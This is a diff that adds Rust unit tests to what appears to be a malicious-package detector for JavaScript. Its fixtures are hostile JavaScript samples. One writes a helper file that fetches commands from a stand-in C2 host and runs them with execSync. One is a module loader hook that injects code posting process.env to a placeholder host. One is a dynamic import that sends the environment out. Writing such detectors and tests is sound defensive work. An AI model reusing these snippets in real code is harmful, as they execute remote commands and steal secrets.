@@ -1681,3 +1681,96 @@ window.fetch = function (resource, options) {
         facts(timing)
     );
 }
+
+#[test]
+fn constant_code_written_to_a_file_then_forked_is_read_as_code() {
+    // Lines of an agent joined into a temporary file, which fork() then runs: what the
+    // text does is what the package runs.
+    let src = r#"
+const fs = require('fs'), os = require('os'), path = require('path');
+const { fork } = require('child_process');
+const lines = [
+  "const https = require('https'), cp = require('child_process');",
+  "https.get('https://c2.example.invalid/task', r => { let b = ''; r.on('data', c => b += c); r.on('end', () => cp.execSync(b)); });",
+];
+const target = path.join(os.tmpdir(), 'helper-' + Date.now() + '.js');
+fs.writeFileSync(target, lines.join('\n'));
+fork(target, [], { stdio: 'ignore' });
+"#;
+    let f = facts(src);
+    assert!(
+        f.iter()
+            .any(|(k, _, d)| *k == K::DownloadExecute && d.contains("in the code written to")),
+        "{f:?}"
+    );
+    // A written file that is not what runs, and a constant file that is only run, stay as
+    // they were: no code read from the data.
+    let quiet = r#"
+const fs = require('fs'), cp = require('child_process');
+fs.writeFileSync('/tmp/report.json', JSON.stringify({ url: 'https://example.invalid' }) + '                ');
+fs.writeFileSync('/tmp/notes.txt', "require('https').get('https://example.invalid/x')");
+cp.fork('/tmp/worker.js');
+"#;
+    let q = facts(quiet);
+    assert!(
+        !q.iter()
+            .any(|(_, _, d)| d.contains("in the code written to")),
+        "{q:?}"
+    );
+}
+
+#[test]
+fn loader_hook_adding_constant_code_to_module_source() {
+    // A `load` hook that appends a fixed snippet to the modules it loads: the snippet runs
+    // in each of them, so it is read as code.
+    let src = r#"
+const EXTRA = "\n;fetch('https://metrics.example.invalid/c', { method: 'POST', body: JSON.stringify(process.env) });\n";
+export async function load(url, context, nextLoad) {
+  const out = await nextLoad(url, context);
+  if (!url.includes('node_modules')) {
+    return { ...out, source: String(out.source) + EXTRA, shortCircuit: true };
+  }
+  return out;
+}
+"#;
+    let f = facts(src);
+    assert!(
+        f.iter().any(|(k, top, d)| *k == K::SecretExfiltration
+            && *top
+            && d.contains("module loader hook")),
+        "{f:?}"
+    );
+    // A hook that transforms the source (a type stripper) adds no code of its own.
+    let quiet = r#"
+export async function load(url, context, nextLoad) {
+  const out = await nextLoad(url, context);
+  return { format: 'module', source: strip(String(out.source)) + '\n//# sourceURL=' + url, shortCircuit: true };
+}
+"#;
+    let q = facts(quiet);
+    assert!(
+        !q.iter().any(|(_, _, d)| d.contains("module loader hook")),
+        "{q:?}"
+    );
+}
+
+#[test]
+fn module_register_follows_the_hooks_file() {
+    let src = "import { register } from 'node:module';\nregister('./loader-hooks.mjs', import.meta.url);\n";
+    let facts = javascript::analyze(src, "register.mjs");
+    assert!(
+        facts.imports.iter().any(|i| i == "./loader-hooks.mjs"),
+        "{:?}",
+        facts.imports
+    );
+}
+
+#[test]
+fn module_handed_to_the_then_of_a_dynamic_import() {
+    let src = "import('node:https').then(({ request: send }) => {\n  const r = send({ host: 'in.example.invalid', method: 'POST' });\n  r.end(JSON.stringify(process.env));\n});\n";
+    let f = facts(src);
+    assert!(
+        f.iter().any(|(k, _, _)| *k == K::SecretExfiltration),
+        "{f:?}"
+    );
+}
